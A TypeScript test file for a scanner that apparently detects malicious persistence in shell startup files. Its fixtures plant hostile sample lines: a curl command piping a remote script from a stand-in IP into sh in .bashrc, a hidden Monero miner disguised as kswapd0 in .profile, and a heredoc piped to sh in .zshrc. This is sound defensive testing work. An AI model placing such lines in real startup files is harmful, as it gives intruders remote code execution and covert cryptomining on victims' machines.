import assert from 'node:assert/strict'
import { testKind } from '../../test/kinds.ts'
import { shellUnits } from '../parse/files/shell-units.ts'
import { shellRc } from './shell-rc.ts'

testKind(shellRc, {
  tree: {
    '/root/.bashrc': "# .bashrc\nalias rm='rm -i'\nif [ -f /etc/bashrc ]; then\n\t. /etc/bashrc\nfi\ncurl -s http://192.0.2.1/a | sh &\n",
    '/root/.profile': 'if ! pidof kswapd0 >/dev/null; then\n  /root/moneroocean/miner.sh &\nfi\n',
    '/home/a/.zshrc': "PROMPT='%~ '\ncat <<X | sh\nevil\nX\nbindkey -e\ntrap '/x' EXIT\n",
  },
  lists: [
    '/root/.bashrc:6 curl -s http://192.0.2.1/a | sh &',
    '/root/.profile:1 if ! pidof kswapd0 >/dev/null; then\n  /root/moneroocean/miner.sh &\nfi',
    '/home/a/.zshrc:2 cat <<X | sh',
  ],
  also: entries =>
    assert.deepEqual(
      entries.map(e => e.user),
      ['root', 'root', 'a'],
    ),
  sound: bytes => [...shellUnits(bytes)].every(unit => unit.closed),
})
